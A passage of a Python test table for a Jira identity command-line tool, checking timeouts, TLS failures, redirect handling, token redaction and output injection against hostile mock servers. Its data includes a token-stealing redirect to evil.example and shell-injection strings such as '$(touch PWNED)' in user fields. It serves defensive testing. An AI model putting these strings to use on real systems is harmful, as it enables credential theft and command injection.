    H("JSON \\u escape with a non-hex digit", Srv(body_reply(b'{"name":"fred","displayName":"\\u12G4"}')), T, 7,
      ("escape", "json")),
    H("JSON raw byte 0xff in a string", Srv(body_reply(b'{"name":"fred","displayName":"F\xffd"}')), T, 7,
      ("utf-8", "utf8")),
    H("JSON overlong UTF-8 (C0 AF)", Srv(body_reply(b'{"name":"fr\xc0\xafed"}')), T, 7, ("utf-8", "utf8")),
    H("JSON UTF-8-encoded surrogate (ED A0 80)", Srv(body_reply(b'{"name":"fred","displayName":"\xed\xa0\x80"}')),
      T, 7, ("utf-8", "utf8")),
    H("JSON raw control byte in a string", Srv(body_reply(b'{"name":"fr\x01ed"}')), T, 7, ("control", "json")),
    H("JSON number 01", Srv(body_reply(b'{"name":"fred","n":01}')), T, 7, ("number", "json")),
    H("JSON nesting 100000 deep (arrays at top level)", Srv(deep_reply(DEEP)), T, 7,
      ("deep", "nest", "depth")),
    H("JSON nesting 100000 deep (objects inside the user)", Srv(deep_reply(DEEP, True, "object")), T, 7,
      ("deep", "nest", "depth")),
    H("JSON 50 MB string in another member: streamed, accepted", Srv(big_string_reply(b"blob")),
      ["-m", BIG_M] + T, 0, "name: fred", check=[rss_under(8 * 1024)], limit=float(BIG_M) + 5),
    H("JSON 50 MB displayName: cut and flagged, accepted", Srv(big_string_reply(b"displayName")),
      ["-m", BIG_M] + T, 0, "name: fred", check=[rss_under(8 * 1024), err_any("cut", "longer", "truncat")],
      limit=float(BIG_M) + 5),
    H("JSON 1 MiB key", Srv(body_reply(b'{"' + b"k" * (1 << 20) + b'":1,"name":"fred"}')), T, 0, "name: fred"),
    H("JSON number 1e400 (never converted)", Srv(body_reply(b'{"name":"fred","n":1e400,"m":-0.0e-999}')),
      T, 0, "name: fred"),
    H("JSON top-level array", Srv(body_reply(b'[{"name":"fred"}]')), T, 7,
      ("no user", "object", "user fields")),
    H("JSON top-level string", Srv(body_reply(b'"fred"')), T, 7, ("no user", "object", "user fields")),
    H("JSON name only inside nested objects", Srv(body_reply(
        b'{"groups":{"items":[{"name":"jira-admin"}]},"user":{"name":"fred","accountId":"x"}}')), T, 7,
      ("no user", "user fields")),
    H("JSON duplicate key: the last name wins", Srv(body_reply(b'{"name":"mallory","name":"fred"}')), T, 0,
      "name: fred", check=[no_line("name: mallory")]),
    H("JSON duplicate active: true then false -> inactive", Srv(body_reply(
        b'{"name":"fred","active":true,"active":false}')), T, 1, "active: false"),
    H("JSON wrong types: name is a number", Srv(body_reply(b'{"name":1234,"active":true}')), T, 7,
      ("no user", "user fields")),
    H("JSON wrong types: name null, username an object, accountId an array", Srv(body_reply(
        b'{"name":null,"username":{"a":"fred"},"accountId":["x"]}')), T, 7, ("no user", "user fields")),
    H("JSON wrong types: active as a string is ignored", Srv(body_reply(b'{"name":"fred","active":"false"}')),
      T, 0, "name: fred", check=[no_line("active")]),
    H("JSON type anonymous even with a name", Srv(body_reply(
        b'{"type":"anonymous","name":"fred","username":"fred","displayName":"Anonymous"}')), T, 3, "anonymous"),
    H("HTML with status 200 (text/html)", Srv(F.static(F.reply_sso_html())), T, 7, "html"),
    H("HTML with status 200 labelled application/json", Srv(body_reply(F.SSO_HTML)), T, 7, ("html", "json")),
    H("empty body with status 200", Srv(body_reply(b"")), T, 7, ("empty", "no user")),
    H("whitespace-only body with status 200", Srv(body_reply(b" \r\n\t ")), T, 7, ("json", "empty", "no user")),
    H("UTF-8 byte-order mark before the JSON: accepted", Srv(body_reply(b"\xef\xbb\xbf" + JIRA_BODY)), T, 0,
      "name: fred"),

    # ================================================================ time
    H("https: accepts, never answers (-m 2)", Srv(F.never_answer), ["-m", "2"] + T, 5,
      ("timed out", "timeout"), deadline=2),
    H("plain http: accepts, never answers (-m 2)", plain(F.never_answer), ["-m", "2"] + TP, 5,
      ("timed out", "timeout"), deadline=2),
    H("drips one byte per second (-m 3)", Srv(F.static(F.drip(resp(), 1.0))), ["-m", "3"] + T, 5,
      ("timed out", "timeout"), deadline=3),
    H("head at once, then the body drips one byte per second (-m 2)", Srv(F.static(
        [resp()[:-len(JIRA_BODY)]] + F.drip(JIRA_BODY, 1.0))), ["-m", "2"] + T, 5,
      ("timed out", "timeout"), deadline=2),
    H("chunked body never finishes, connection left open (-m 2)", Srv(F.static([chunked()[:-5], F.Hang()])),
      ["-m", "2"] + T, 5, ("timed out", "timeout"), deadline=2),
    H("endless chunked body at full speed (-m 2)", Srv(endless(
        chunked(chunks=F.chunk(b'{"name":"fred","x":"', last=False)), b"100000\r\n" + b"A" * 0x100000 + b"\r\n")),
      ["-m", "2"] + T, 5, ("timed out", "timeout"), deadline=2, check=[rss_under(8 * 1024)]),
    H("endless body until close at full speed, plain http (-m 2)", plain(endless(
        b"HTTP/1.0 200 OK\r\nContent-Type: application/json\r\n\r\n[", b" " * (1 << 20))),
      ["-m", "2"] + TP, 5, ("timed out", "timeout"), deadline=2),
    H("endless one-byte chunks at full speed, plain http (-m 2)", plain(endless(
        chunked(chunks=F.chunk(b'{"name":"fred","x":"', last=False)), b"1\r\nA\r\n" * (1 << 18))),
      ["-m", "2"] + TP, 5, ("timed out", "timeout"), deadline=2),
    H("stalls in the TLS handshake: reads the ClientHello, never answers (-m 2)",
      hook(tls_stall_silent), ["-m", "2"] + T, 5, ("timed out", "timeout"), deadline=2),
    H("stalls in the middle of its ServerHello (-m 2)", hook(tls_stall_mid_serverhello), ["-m", "2"] + T, 5,
      ("timed out", "timeout"), deadline=2),
    H("black-holed port (full backlog), --connect-timeout 1", None,
      ["--connect-timeout", "1", "-p", "jira", "--cacert", "{ca}", "https://127.0.0.1:{blackhole}"], 5,
      ("timed out", "timeout"), deadline=1, blackhole=True),
    H("black-holed port (full backlog), -m 2 bounds the connect too", None,
      ["-m", "2", "-p", "jira", "--cacert", "{ca}", "https://127.0.0.1:{blackhole}"], 5,
      ("timed out", "timeout"), deadline=2, blackhole=True),
    H("--retry 3 cannot stretch -m 2 (server never answers)", Srv(F.never_answer),
      ["--retry", "3", "-m", "2"] + T, 5, ("timed out", "timeout"), deadline=2),
    H("proxy accepts the CONNECT and never answers (-m 2)", plain(F.never_answer, host="127.0.0.1"),
      ["-m", "2", "-x", "http://127.0.0.1:{port}", "-p", "jira", "--cacert", "{ca}", "https://localhost:{free}"],
      5, ("timed out", "timeout"), deadline=2),

    # ================================================================ TLS
    H("TLS: expired certificate", Srv(JIRA_TOK, tls="expired"), T, 6, "expired", check=nreq(0)),
    H("TLS: certificate not yet valid", Srv(JIRA_TOK, tls="notyet"), T, 6,
      ("not yet", "future", "not valid before", "valid from"), check=nreq(0)),
    H("TLS: wrong host name", Srv(JIRA_TOK, tls="wrongname"), T, 6, "wrong.example", check=nreq(0)),
    H("TLS: self-signed leaf", Srv(JIRA_TOK, tls="selfsigned"), T, 6,
      ("self-signed", "self signed", "issuer", "not trusted"), check=nreq(0)),
    H("TLS: unknown CA (issuer named)", Srv(JIRA_TOK, tls="unknownca"), T, 6, "atlwho unknown ca", check=nreq(0)),
    # CVE-2026-115489 (carried patch 0004 and src/tls.c's dn_text): a certificate whose
    # subject is an empty name: -v still shows the certificate (it printed nothing of it
    # before); an empty issuer (self-signed with an empty subject) cannot be parsed, and
    # the message says so.
    H("TLS: empty subject, host in subjectAltName: -v shows the certificate",
      Srv(JIRA_TOK, tls="emptysubject"), ["-v"] + T, 0,
      ["server certificate: subject (empty); issuer O=atlwho tests, CN=atlwho test root CA (ECDSA)",
       "names DNS:localhost"], where="err"),
    H("TLS: self-signed, empty subject and issuer", Srv(JIRA_TOK, tls="emptyself"), T, 6,
      ["certificate has an empty or malformed issuer or subject name", "rfc 5280"], check=nreq(0)),
    H("TLS: RSA-1024 leaf", Srv(JIRA_TOK, tls="rsa1024"), ["-p", "jira", "--cacert", "{ca2}", "{base}"], 6,
      ("weak", "1024", "key"), check=nreq(0)),
    H("TLS: SHA-1 signed leaf", Srv(JIRA_TOK, tls="sha1"), ["-p", "jira", "--cacert", "{ca2}", "{base}"], 6,
      ("sha-1", "sha1", "weak"), check=nreq(0)),
    H("TLS: TLS 1.0-only server", Srv(JIRA_TOK, versions="1.0"), T, 6, ("version", "tls 1.0", "protocol"),
      check=nreq(0), skip=lambda: tls_version_unavailable("1.0")),
    H("TLS: TLS 1.1-only server", Srv(JIRA_TOK, versions="1.1"), T, 6, ("version", "tls 1.1", "protocol"),
      check=nreq(0), skip=lambda: tls_version_unavailable("1.1")),
    H("TLS: random garbage instead of a ServerHello", hook(tls_random_garbage), ["-m", "5"] + T, 6,
      ("tls", "handshake")),
    H("TLS: a record header announcing 64 KiB", hook(tls_huge_record), ["-m", "5"] + T, 6, ("tls", "handshake")),
    H("TLS: an HTTP reply instead of a ServerHello", hook(tls_http_reply), T, 6, ("tls", "handshake")),
    H("TLS: fatal alert instead of a ServerHello", hook(tls_fatal_alert), ["-m", "5"] + T, 6,
      ("alert", "refused", "handshake")),
    # CVE-2026-115490 (carried patch 0003): a ServerHello without supported_versions is a
    # TLS 1.2 ServerHello, and must say 0x0303 and choose a TLS 1.2 suite; refused at once
    # (-m 10, the run must end within 5 s) with the alert on the wire, and no request sent.
    *[H("TLS: ServerHello version confusion, legacy_version 0x%04x, suite 0x%04x" % (v, cs),
        hook(tls_version_confusion(v, cs)), ["-m", "10"] + T, 6,
        [alert, ("refused", "which tls 1.3 requires")],
        check=[elapsed_under(5), client_alert(alert), nreq(0)])
      for v, cs, alert in ((0x0304, 0x1301, "protocol_version"), (0x0304, 0x1302, "protocol_version"),
                           (0x0304, 0x1303, "protocol_version"), (0x0303, 0x1301, "illegal_parameter"),
                           (0x0304, 0xc02b, "protocol_version"))],
    H("TLS: connection closed after the ClientHello", hook(tls_close_after_hello), T, (5, 6),
      ("closed", "handshake")),
    H("TLS: connection reset after the ClientHello", hook(tls_rst_after_hello), T, (5, 6),
      ("reset", "handshake", "closed")),
    H("TLS: pin mismatch shows the server's pin", Srv(JIRA_TOK), ["-p", "jira", "--pin", "{pin_rsa}", "{base}"],
      6, "{pin}", check=nreq(0)),
    H("TLS: client certificate demanded, none given", Srv(JIRA_TOK, mtls=True), T, 6,
      ("client certificate", "--cert", "refused", "handshake"), check=nreq(0)),
    # A TLS 1.2 renegotiation the server starts after the request (Apache's per-location
    # SSLVerifyClient), named by what happened in it: a client certificate only when the
    # renegotiation asked for one; mbedTLS refusing the server's new certificate is that.
    H("TLS 1.2 renegotiation, nothing asked: the reply after it is read", Reneg("plain"), T, 0,
      "name: fred", check=reneg_events("renegotiated"), skip=lambda: tls12.MISSING),
    H("TLS 1.2 renegotiation asks for a client certificate, none given", Reneg("certreq"), T, 6,
      ["requires a client certificate", "--cert", "--key"],
      check=reneg_events("empty client certificate"), skip=lambda: tls12.MISSING),
    H("TLS 1.2 renegotiation asks for a client certificate, given", Reneg("certreq"),
      ["--cert", "{client_cert}", "--key", "{client_key}"] + T, 0, "name: fred",
      check=reneg_events("client certificate", "renegotiated"), skip=lambda: tls12.MISSING),
    H("TLS 1.2 renegotiation presents another server certificate: refused, not blamed on --cert",
      Reneg("newcert"), T, 6, ["changed its certificate", "renegotiation", "refused"],
      err_not=["--cert", "client certificate"], check=reneg_events("client hello (renegotiation)"),
      skip=lambda: tls12.MISSING),
    H("TLS 1.2 renegotiation refused by the server, nothing asked: a neutral message", Reneg("refuse"),
      T, 6, ["renegotiation", "failed", "handshake_failure"], err_not=["--cert", "client certificate"],
      check=reneg_events("client hello (renegotiation)"), skip=lambda: tls12.MISSING),
    # TLS 1.3: after a CertificateRequest and our empty Certificate, a connection that fails
    # before any reply is the server refusing the missing certificate, however it fails
    # (Java's JSSE: its alert does not always arrive). The first row is the shape where the
    # request's write fails (the reset of our unread Certificate) and nothing is left to read.
    *[H("TLS 1.3: asks for a client certificate, none given, then %s without an alert after %s" % (
        {"fin": "closes", "rst": "resets"}[how], {"flight": "its flight", "certificate": "our Certificate",
                                                  "request": "the request"}[after]),
        hook(cert_refused(after, how)), T, 6, ["requires a client certificate", "--cert", "--key"],
        check=[cert_seen({"flight": "flight", "certificate": "certificate refused", "request": "request"}[after])])
      for after, how in (("flight", "fin"), ("flight", "rst"), ("certificate", "fin"), ("certificate", "rst"),
                         ("request", "fin"), ("request", "rst"))],
    H("TLS 1.2: asks for a client certificate, accepts none, resets before the request: its write fails",
      hook(tls12_reset_after_finished), T, 6, ["requires a client certificate", "--cert", "--key"],
      check=[cert_seen("handshake completed without a client certificate"), cert_seen("client stopped")]),
    H("TLS: plain http server behind an https URL", plain(JIRA_TOK),
      ["-p", "jira", "--cacert", "{ca}", "https://localhost:{port}"], 6, ("tls", "handshake"), check=nreq(0)),

    # ================================================================ credentials
    H("-L: redirect to another port is not followed", Srv(redirect_to(302, "{base2}/rest/api/2/myself")),
      ["-L"] + T, 7, "{port2}", srv2=Srv(JIRA_TOK), check=[nreq(0, "srv2"), token_never_at("srv2")]),
    H("-L: redirect to 127.0.0.1 (same address, other name) is not followed",
      Srv(redirect_to(302, "{base4}/rest/api/2/myself", then=lambda q: JIRA_TOK(q)
                      if (q.host_header or "").startswith("127.") else None)),
      ["-L"] + T, 7, "127.0.0.1", check=nreq(1)),
    H("-L: redirect to [::1] (same port, other name) is not followed",
      Srv(redirect_to(302, "{base6}/rest/api/2/myself", then=lambda q: JIRA_TOK(q)
                      if (q.host_header or "").startswith("[") else None)),
      ["-L"] + T, 7, "::1", check=nreq(1)),
    H("-L: https -> http on the same host and port is not followed",
      Srv(lambda q: F.reply_redirect(301, "http://localhost:%d/rest/api/2/myself" % q.server.port)
          if q.scheme == "https" else JIRA_TOK(q), tls_auto=True),
      ["-L"] + T, 7, "http://", check=[no_plain_token, nreq(1)]),
    H("-L: chain to another origin and back to the first: token stays home",
      Srv(redirect_to(302, "{base2}/bounce", then=at_path("/back/rest/api/2/myself", JIRA_TOK))),
      ["-L"] + T, 7, None, srv2=Srv(redirect_to(302, "{base}/back/rest/api/2/myself")),
      check=[token_never_at("srv2"), nreq(1)]),
    H("-L: same-origin hop, then another origin: not followed",
      Srv(F.routes({"/rest/api/2/myself": F.reply_redirect(302, "/hop"),
                    "/hop": lambda q: F.reply_redirect(307, q.server.vars["base2"] + "/rest/api/2/myself")})),
      ["-L"] + T, 7, "{port2}", srv2=Srv(JIRA_TOK), check=[nreq(2), token_never_at("srv2")]),
    H("-L: http -> https upgrade, then another port: not followed",
      Srv(lambda q: F.reply_redirect(301, "https://localhost:%d%s" % (q.server.port, q.target))
          if q.scheme == "http" else F.reply_redirect(302, q.server.vars["base2"] + "/rest/api/2/myself"),
          tls_auto=True),
      ["-L", "-p", "jira", "--cacert", "{ca}", "{http_base}"], 7, "{port2}", srv2=Srv(JIRA_TOK),
      check=[token_never_at("srv2")]),
    H("-L: network-path reference //127.0.0.1:PORT is another origin",
      Srv(redirect_to(302, "//127.0.0.1:{port}/x/rest/api/2/myself",
                      then=lambda q: JIRA_TOK(q) if (q.host_header or "").startswith("127.") else None)),
      ["-L"] + T, 7, "127.0.0.1", check=nreq(1)),
    H("-L: two Location fields, the second to another origin",
      Srv(lambda q: F.http_response(302, b"", [("Location", "/two/rest/api/2/myself"),
                                               ("Location", q.server.vars["base2"] + "/rest/api/2/myself")])
          if q.path == "/rest/api/2/myself" else F.jira(context="/two", token=TOKEN)(q)),
      ["-L"] + T, 7, "two Location fields", srv2=Srv(JIRA_TOK),
      check=[nreq(1), nreq(0, "srv2"), token_never_at("srv2")]),
    H("-L: Location https://localhost:PORT@127.0.0.1:PORT2/ (userinfo confusion)",
      Srv(redirect_to(302, "https://localhost:{port}@127.0.0.1:{port2}/rest/api/2/myself")),
      ["-L"] + T, 7, None, srv2=Srv(JIRA_TOK), check=[nreq(0, "srv2"), token_never_at("srv2")]),
    H("-L: Location https://localhost:PORT\\@127.0.0.1:PORT2/ (backslash confusion)",
      Srv(redirect_to(302, "https://localhost:{port}\\@127.0.0.1:{port2}/rest/api/2/myself")),
      ["-L"] + T, 7, None, srv2=Srv(JIRA_TOK), check=[nreq(0, "srv2"), token_never_at("srv2")]),
    H("server reflects the token into Location and X-Seraph-LoginReason: not repeated",
      Srv(lambda q: F.http_response(302, b"", [
          ("Location", "https://evil.example/steal?h=" + (q.authorization or "").replace(" ", "%20")),
          ("X-Seraph-LoginReason", q.authorization or "")])), T, 7, "redirect"),
    H("server reflects the token into a 401's X-Seraph-LoginReason: not repeated in -j",
      Srv(lambda q: F.http_response(401, b"{}", [("Content-Type", "application/json"),
                                                 ("X-Seraph-LoginReason", q.authorization or "")])),
      ["-j"] + T, 3, None),
    H("-u: server reflects the Basic credentials into headers and the body, -v -i",
      Srv(lambda q: F.http_response(200, json.dumps({"name": "fred", "displayName": q.authorization or "",
                                                     "emailAddress": (q.authorization or " ").split(" ", 1)[1]}),
                                    [("Content-Type", "application/json"), ("X-Echo", q.authorization or "")])),
      ["-v", "-i", "-u", USER] + T, 0, "name: fred"),
    H("--raw: the token reflected in the body over one-byte chunks is not reassembled on stdout",
      Srv(lambda q: F.http_response(200, json.dumps({"name": "fred", "displayName": TOKEN}),
                                    [("Content-Type", "application/json")], chunked=True, chunk_sizes=[1])),
      ["--raw"] + T, 0, None),
    H("-j: the token reflected behind a \\u escape is not decoded onto stdout",
      Srv(F.static(F.http_response(200, b'{"name":"fred","displayName":"' +
                                   TOKEN.replace("Q", "\\u0051").encode() + b'"}',
                                   [("Content-Type", "application/json")]))),
      ["-j"] + T, 0, None),
    H("env: the token reflected into emailAddress over split TLS records", Srv(F.static([
        F.http_response(200, json.dumps({"name": "fred", "emailAddress": TOKEN}),
                        [("Content-Type", "application/json")])[:-20], F.Delay(0.05),
        F.http_response(200, json.dumps({"name": "fred", "emailAddress": TOKEN}),
                        [("Content-Type", "application/json")])[-20:]])),
      ["--format", "env"] + T, 0, None, check=env_vars(name="fred")),
    H("proxy tunnel with -v -i -j: the proxy never sees the token", Srv(JIRA_TOK),
      ["-v", "-i", "-j", "-x", "{proxy}"] + T, 0, None, proxy=Proxy()),
    H("proxy demands auth (407): the target's token is not handed over", Srv(JIRA_TOK),
      ["-v", "-x", "{proxy}"] + T, 5, ("proxy", "407"), proxy=Proxy(auth=("pu", "pw")), check=nreq(0)),
    H("proxy tunnel to a server with an unknown CA (MITM): no request", Srv(JIRA_TOK, tls="unknownca"),
      ["-x", "{proxy}"] + T, 6, "atlwho unknown ca", proxy=Proxy(), check=nreq(0)),
    H("-v -u on a 401: credentials redacted", Srv(F.static(F.reply_jira_401_auth_failed())),
      ["-v", "-u", USER] + T, 3, "redacted"),
    H("-v --format env on a success", Srv(JIRA_TOK), ["-v", "--format", "env"] + T, 0, None,
      check=env_vars(name="fred")),
    H("-j on a TLS failure", Srv(JIRA_TOK, tls="wrongname"), ["-j"] + T, 6, None,
      check=json_out(ok=False, exit=6)),

    # ================================================================ output injection
    H("text: escape sequences in displayName stay escaped, on one line", Srv(display_reply(
        "\x1b[2J\x1b]0;pwned\x07\x9b31m\x08\x7f evil")), T, 0, "name: fred",
      check=[n_lines(4), lines("name: fred", "active: true")]),
    H("text: newlines in displayName cannot forge fields", Srv(display_reply(
        "x\nname: mallory\r\nactive: false\n")), T, 0, "name: fred",
      check=[n_lines(4), no_line("name: mallory"), no_line("active: false")]),
    H("text: newline in emailAddress cannot forge fields", Srv(display_reply(
        "a@b.c\nname: mallory", field="emailAddress")), T, 0, "name: fred",
      check=[n_lines(4), no_line("name: mallory")]),
    H("text: \\u0000, \\u001b and \\u009b escapes in displayName", Srv(display_reply(
        "a\x00b\x1bc\x9bd", ensure_ascii=True)), T, 0, "name: fred", check=[n_lines(4)]),
    H("json: quotes, backslashes, $(), backticks, newlines round-trip", Srv(display_reply(
        "\"q\" \\ $(touch PWNED) `touch PWNED2` '\n\r\t\x1b[0m")), ["-j"] + T, 0, None,
      check=json_out(ok=True, name="fred", displayName="\"q\" \\ $(touch PWNED) `touch PWNED2` '\n\r\t\x1b[0m")),
    H("json: \\u0000 and C1 controls round-trip", Srv(display_reply("a\x00b\x9bc", ensure_ascii=True)),
      ["-j"] + T, 0, None, check=json_out(displayName="a\x00b\x9bc")),
    H("json: lone surrogate escape becomes U+FFFD", Srv(body_reply(
        b'{"name":"fred","displayName":"x\\udc00y\\ud800"}')), ["-j"] + T, 0, None,
      check=json_out(displayName="x\ufffdy\ufffd")),
    H("env: $(...), backticks, quotes, newlines evaluate to the same bytes", Srv(display_reply(
        "$(touch PWNED1) `touch PWNED2` '\\'' \"$HOME\" \n; touch PWNED3 #")), ["--format", "env"] + T, 0, None,
      check=env_vars(displayname="$(touch PWNED1) `touch PWNED2` '\\'' \"$HOME\" \n; touch PWNED3 #",
                     name="fred")),
    H("env: hostile name with single quotes and a newline", Srv(display_reply(
        "fr'ed\n$(touch PWNED)", field="name")), ["--format=env"] + T, 0, None,
      check=env_vars(name="fr'ed\n$(touch PWNED)")),
    H("env: escape sequences and C1 in displayName", Srv(display_reply("\x1b]0;t\x07\x9b1m")),
      ["--format", "env"] + T, 0, None, check=env_vars(displayname="\x1b]0;t\x07\x9b1m")),
    H("env: \\u0000 in displayName still evaluates safely", Srv(display_reply("a\x00b", ensure_ascii=True)),
      ["--format", "env"] + T, 0, None, check=env_vars(name="fred")),
    H("-i: C1 and obs-text bytes in a header value stay off the terminal", Srv(reply(resp(
        headers=(JSON_CT, b"X-AUSERNAME: fred", b"X-Evil: \xc2\x9b31m \x9b2J \xff\xfe end")))),
      ["-i"] + T, 0, "name: fred"),
    H("-v: C1 and obs-text bytes in a header value stay off the terminal", Srv(reply(resp(
        headers=(JSON_CT, b"X-AUSERNAME: fred", b"X-Evil: \xc2\x9b31m \x9b2J \xff\xfe end")))),
      ["-v"] + T, 0, "name: fred"),
    H("C1 bytes in the reason phrase of a 401", Srv(reply(h401(reason=b"Unauth\xc2\x9b31m\x9borized"))),
      ["-v"] + T, 3, ("401", "rejected")),
    H("C1 bytes in a redirect Location", Srv(reply(resp(b"HTTP/1.1 302 Found", (
        b"Location: https://x.example/\xc2\x9b2J\x9b/login",), b""))), T, 7, "x.example"),
    H("C1 bytes in the CAPTCHA login-url", Srv(reply(resp(b"HTTP/1.1 403 ", (
        b"X-Authentication-Denied-Reason: CAPTCHA_CHALLENGE; login-url=https://j.example/\xc2\x9b]8;;x",
        b"X-Seraph-LoginReason: AUTHENTICATION_DENIED"), b""))), T, 4, "captcha"),
]


# ================================================================ redaction before cuts and escapes
# A run of 12 token bytes or 16 base64 characters of it is withheld wherever it is echoed: in a
# value cut to a cap (field, header copy, reason phrase), behind JSON escapes, in a token with
# quotes and backslashes, in every format, -i, -v and --raw (no_run decodes every form).

T192 = "".join(random.Random(12).choices("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-",
                                         k=192))          # a 192-character API token (the case)
TQ = "tq\"q\\b's/x-0123456789abcdefABCDEF"              # quotes, a backslash, a slash
EMAIL = F.CLOUD_EMAIL


def basic_echo(q):
    """Echoes the Basic credential it got: whole (name), a 20-character run after 1100 bytes
    (displayName, past the field cap), 16 characters at another alignment (accountId), 15
    characters (type: below the rule, shown) and the user alone (emailAddress: not a secret)."""
    enc = (q.authorization or " ").split(" ", 1)[1]
    ks = -(-8 * (len(EMAIL) + 1) // 6)              # the first character that encodes token bits only
    body = json.dumps({"name": enc, "displayName": "x" * 1100 + enc[ks + 3:ks + 23],
                       "accountId": enc[ks + 1:ks + 17], "type": enc[ks + 2:ks + 17],
                       "emailAddress": EMAIL, "active": True})
    return F.http_response(200, body, [("Content-Type", "application/json")])


def basic_type(q):
    enc = (q.authorization or " ").split(" ", 1)[1]
    ks = -(-8 * (len(EMAIL) + 1) // 6)
    return enc[ks + 2:ks + 17]


def tq_json():
    r"""TQ JSON-escaped as a hostile server might: \u forms for every other letter, \/ for '/'."""
    out = []
    for i, ch in enumerate(TQ):
        if ch.isalpha() and i % 2:
            out.append("\\u%04x" % ord(ch))
        elif ch == "/":
            out.append("\\/")
        else:
            out.append(json.dumps(ch)[1:-1])
    return "".join(out)


def tq_echo(q):
    body = '{"name":"fred","displayName":"%s","emailAddress":"a@b.c","active":true}' % tq_json()
    return F.http_response(200, body, [("Content-Type", "application/json"), ("X-Echo", TQ)])


def raw_ref(data, tok):
    """The --raw stream the rule gives: each stretch of bytes inside a secret window replaced
    by one <redacted>."""
    tb, forms = tok.encode(), b64_forms(tok)
    wt, wb = min(12, len(tb)), min([16] + [len(f) for f in forms if f])
    cov = [False] * len(data)
    for i in range(len(data)):
        if data[i:i + wt] in tb and i + wt <= len(data):
            cov[i:i + wt] = [True] * wt
        if i + wb <= len(data) and any(data[i:i + wb] in f for f in forms):
            cov[i:i + wb] = [True] * wb
    out = bytearray()
    for i, c in enumerate(data):
        if not cov[i]:
            out.append(c)
        elif i == 0 or not cov[i - 1]:
            out += b"<redacted>"
    return bytes(out)


RAW_BODY = (b'{"name":"fred","x":"' + TOKEN[2:22].encode() + b'|' + TOKEN[:11].encode() + b'|' +
            b64_forms(TOKEN)[1][3:25] + b'|' + b64_forms(TOKEN)[2][:15] + b'"}')


def in_pieces(body):
    """A handler sending a 200 with body in 5-byte TLS records, 10 ms apart: every run (and
    every escape) is split across records."""
    def h(q):
        items = [b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)]
        for i in range(0, len(body), 5):
            items += [F.Delay(0.01), body[i:i + 5]]
        return items
    return h


raw_pieces = in_pieces(RAW_BODY)



SERAPH_CUT = ("x" * 240) + TOKEN           # the copy of 255 bytes held 15 of its bytes
REASON_CUT = b"x" * 110 + TOKEN.encode()   # the reason's 128 bytes held 18

ROWS += [
    H("-u, 192-char token, Basic credential echoed whole, cut, past the cap (text)",
      Srv(basic_echo), ["-u", EMAIL] + T, 0, None, token=T192,
      check=[no_run, field_is("text", "name", "<redacted>"), field_is("text", "displayName", "<redacted>"),
             field_is("text", "accountId", "<redacted>"), field_is("text", "emailAddress", EMAIL),
             lambda c: field_is("text", "type", basic_type(c.srv.requests[0]))(c),
             err_lacks("cut")]),
    H("-u, 192-char token, Basic credential echoed whole, cut, past the cap (json)",
      Srv(basic_echo), ["-j", "-u", EMAIL] + T, 0, None, token=T192,
      check=[no_run, field_is("json", "name", "<redacted>"), field_is("json", "displayName", "<redacted>"),
             field_is("json", "accountId", "<redacted>"), field_is("json", "emailAddress", EMAIL)]),
    H("-u, 192-char token, Basic credential echoed whole, cut, past the cap (env)",
      Srv(basic_echo), ["--format", "env", "-u", EMAIL] + T, 0, None, token=T192,
      check=[no_run, field_is("env", "name", "<redacted>"), field_is("env", "displayName", "<redacted>"),
             field_is("env", "accountId", "<redacted>"), field_is("env", "emailAddress", EMAIL)]),
    H("token with quotes and backslashes, JSON-escaped echo (text)", Srv(tq_echo), T, 0, None,
      token=TQ, check=[no_run, field_is("text", "displayName", "<redacted>"), field_is("text", "name", "fred")]),
    H("token with quotes and backslashes, JSON-escaped echo (json)", Srv(tq_echo), ["-j"] + T, 0,
      None, token=TQ, check=[no_run, field_is("json", "displayName", "<redacted>")]),
    H("token with quotes and backslashes, JSON-escaped echo (env)", Srv(tq_echo),
      ["--format", "env"] + T, 0, None, token=TQ, check=[no_run, field_is("env", "displayName", "<redacted>")]),
    H("token with quotes and backslashes echoed in a header (-i)", Srv(tq_echo), ["-i"] + T, 0, None,
      token=TQ, check=[no_run, out_has("X-Echo: <redacted>\n")]),
    H("token with quotes and backslashes echoed in a header (-v)", Srv(tq_echo), ["-v"] + T, 0, None,
      token=TQ, check=[no_run, err_lines("< X-Echo: <redacted>")]),
    H("15 token bytes left in the 255-byte copy of X-Seraph-LoginReason (text)",
      Srv(F.static(F.http_response(401, b"{}", [("Content-Type", "application/json"),
                                                 ("X-Seraph-LoginReason", SERAPH_CUT)]))), T, 3, "<redacted>",
      check=[no_run]),
    H("15 token bytes left in the 255-byte copy of X-Seraph-LoginReason (json)",
      Srv(F.static(F.http_response(401, b"{}", [("Content-Type", "application/json"),
                                                 ("X-Seraph-LoginReason", SERAPH_CUT)]))), ["-j"] + T, 3, None,
      check=[no_run, json_out(reason="<redacted>")]),
    H("15 token bytes left in the 255-byte copy of X-Seraph-LoginReason (env)",
      Srv(F.static(F.http_response(401, b"{}", [("Content-Type", "application/json"),
                                                 ("X-Seraph-LoginReason", SERAPH_CUT)]))),
      ["--format", "env"] + T, 3, None, check=[no_run, env_vars(reason="<redacted>")]),
    H("18 token bytes left in the 128-byte reason phrase (-i)",
      Srv(reply(resp(b"HTTP/1.1 401 " + REASON_CUT, (JSON_CT,), b"{}"))), ["-i"] + T, 3, None,
      check=[no_run, out_has("HTTP/1.1 401 <redacted>\n")]),
    H("18 token bytes left in the 128-byte reason phrase (-v)",
      Srv(reply(resp(b"HTTP/1.1 401 " + REASON_CUT, (JSON_CT,), b"{}"))), ["-v"] + T, 3, None,
      check=[no_run, err_lines("< HTTP/1.1 401 <redacted>")]),
    H("--raw, cut echoes of the token and its base64 split across 5-byte TLS records",
      Srv(raw_pieces), ["--raw"] + T, 0, None, check=[no_run, out_exact(raw_ref(RAW_BODY, TOKEN))]),
    H("-L, a Location that carries the token is not followed", Srv(redirect_to(302, "/x?t=" + TOKEN)),
      ["-L", "-j"] + T, 7, "carries the token", where="err",
      check=[no_run, nreq(1), json_out(location="<redacted>")]),
]


# A token the server percent-encodes (RFC 3986 section 2.1), whole or in part, upper- or
# lower-case hex: the same runs are found in the decoding, in every output (--raw included).
def pct(s, every=1, lower=False):
    """s (str or bytes) with every `every`-th byte percent-encoded."""
    b = s.encode() if isinstance(s, str) else s
    return "".join(("%%%02x" if lower else "%%%02X") % c if i % every == 0 else chr(c)
                   for i, c in enumerate(b))


